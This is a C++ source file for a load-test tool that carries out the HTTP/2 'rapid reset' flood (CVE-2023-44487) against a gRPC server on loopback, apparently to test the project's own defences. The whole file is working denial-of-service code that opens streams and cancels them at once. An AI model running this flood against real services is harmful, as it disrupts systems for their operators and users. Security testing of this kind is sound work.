// h2_flood: an HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC
// server, from raw sockets: each connection sends the client preface and
// SETTINGS, then as fast as it can a HEADERS frame opening a gRPC call
// followed at once by RST_STREAM(CANCEL), on stream after stream. Server
// frames are read and dropped (SETTINGS are acknowledged); a connection the
// server closes is reopened.
//
//   h2_flood --port=50051 [--connections=4] [--seconds=10]
//   [--path=/pkg.Svc/Method]
//            [--source=127.0.0.2]
//
// --source binds the flood's connections to that local address (so that on
// one machine the flood and a legitimate client come from different
// addresses, as they would in the field). Prints one line: streams opened
// and reset (sent in full), connections opened, seconds.
// Used by tests/e2e/flood_test.cc; run longer by hand (docs/security.md).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
                  const std::string& payload) {
  std::string f;
  uint32_t n = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>((n >> 16) & 0xff));
  f.push_back(static_cast<char>((n >> 8) & 0xff));
  f.push_back(static_cast<char>(n & 0xff));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  f.push_back(static_cast<char>((stream >> 24) & 0x7f));  // reserved bit 0
  f.push_back(static_cast<char>((stream >> 16) & 0xff));
  f.push_back(static_cast<char>((stream >> 8) & 0xff));
  f.push_back(static_cast<char>(stream & 0xff));
  return f + payload;
}

// HPACK "literal header field without indexing, new name", no Huffman;
// every name and value here is shorter than 127 bytes.
std::string Literal(const std::string& name, const std::string& value) {
  std::string out(1, '\0');
  out.push_back(static_cast<char>(name.size()));
  out += name;
  out.push_back(static_cast<char>(value.size()));
  out += value;
  return out;
}

constexpr uint8_t kHeaders = 0x1, kRstStream = 0x3, kSettings = 0x4;
constexpr uint8_t kEndHeaders = 0x4, kAck = 0x1;

bool SendAll(int fd, const std::string& bytes) {
  size_t done = 0;
  while (done < bytes.size()) {
    ssize_t n =
        ::send(fd, bytes.data() + done, bytes.size() - done, MSG_NOSIGNAL);
    if (n <= 0) return false;
    done += static_cast<size_t>(n);
  }
  return true;
}

int Connect(int port, const std::string& source) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  if (!source.empty()) {
    sockaddr_in local{};
    local.sin_family = AF_INET;
    inet_pton(AF_INET, source.c_str(), &local.sin_addr);
    if (::bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof(local)) != 0) {
      ::close(fd);
      return -1;
    }
  }
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

// Reads and drops server frames, acknowledging SETTINGS, until the socket
// closes.
void Drain(int fd) {
  std::string buffer;
  char chunk[65536];
  for (;;) {
    ssize_t n = ::recv(fd, chunk, sizeof(chunk), 0);
    if (n <= 0) return;
    buffer.append(chunk, static_cast<size_t>(n));
    while (buffer.size() >= 9) {
      uint32_t len = (static_cast<uint8_t>(buffer[0]) << 16) |
                     (static_cast<uint8_t>(buffer[1]) << 8) |
                     static_cast<uint8_t>(buffer[2]);
      if (buffer.size() < 9 + len) break;
      if (static_cast<uint8_t>(buffer[3]) == kSettings &&
          (static_cast<uint8_t>(buffer[4]) & kAck) == 0) {
        SendAll(fd, Frame(kSettings, kAck, 0, ""));
      }
      buffer.erase(0, 9 + len);
    }
  }
}

std::string FlagValue(int argc, char** argv, const std::string& name,
                      const std::string& def) {
  std::string prefix = "--" + name + "=";
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], prefix.c_str(), prefix.size()) == 0) {
      return argv[i] + prefix.size();
    }
  }
  return def;
}

}  // namespace

int main(int argc, char** argv) {
  const int port = std::atoi(FlagValue(argc, argv, "port", "0").c_str());
  const int connections =
      std::atoi(FlagValue(argc, argv, "connections", "4").c_str());
  const double seconds =
      std::atof(FlagValue(argc, argv, "seconds", "10").c_str());
  const std::string path =
      FlagValue(argc, argv, "path", "/techmatch.v1.OfferService/GetOffer");
  const std::string source = FlagValue(argc, argv, "source", "");
  if (port <= 0) {
    std::fprintf(stderr, "h2_flood: --port is required\n");
    return 2;
  }
  std::string block =
      std::string(1, static_cast<char>(0x83)) +  // :method POST (static 3)
      std::string(1, static_cast<char>(0x86)) +  // :scheme http (static 6)
      Literal(":path", path) +
      Literal(":authority", "127.0.0.1:" + std::to_string(port)) +
      Literal("content-type", "application/grpc") + Literal("te", "trailers");
  std::string cancel("\0\0\0\x08", 4);  // CANCEL
  std::atomic<int64_t> streams{0}, opened{0};
  const auto end =
      std::chrono::steady_clock::now() +
      std::chrono::milliseconds(static_cast<int64_t>(seconds * 1000));
  std::vector<std::thread> threads;
  for (int c = 0; c < connections; ++c) {
    threads.emplace_back([&] {
      while (std::chrono::steady_clock::now() < end) {
        int fd = Connect(port, source);
        if (fd < 0) {
          std::this_thread::sleep_for(std::chrono::milliseconds(50));
          continue;
        }
        ++opened;
        std::thread drain(Drain, fd);
        bool ok = SendAll(fd, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") &&
                  SendAll(fd, Frame(kSettings, 0, 0, ""));
        std::string batch;
        int64_t in_batch = 0;
        for (uint32_t id = 1;
             ok && id < (1u << 30) && std::chrono::steady_clock::now() < end;
             id += 2) {
          batch += Frame(kHeaders, kEndHeaders, id, block);
          batch += Frame(kRstStream, 0, id, cancel);
          ++in_batch;
          if (batch.size() > 16384) {
            ok = SendAll(fd, batch);
            if (ok) streams += in_batch;
            batch.clear();
            in_batch = 0;
          }
        }
        ::shutdown(fd, SHUT_RDWR);
        drain.join();
        ::close(fd);
      }
    });
  }
  for (auto& t : threads) t.join();
  std::printf(
      "h2_flood: %lld streams opened and reset on %lld connections in %.1f s\n",
      static_cast<long long>(streams.load()),
      static_cast<long long>(opened.load()), seconds);
  return 0;
}
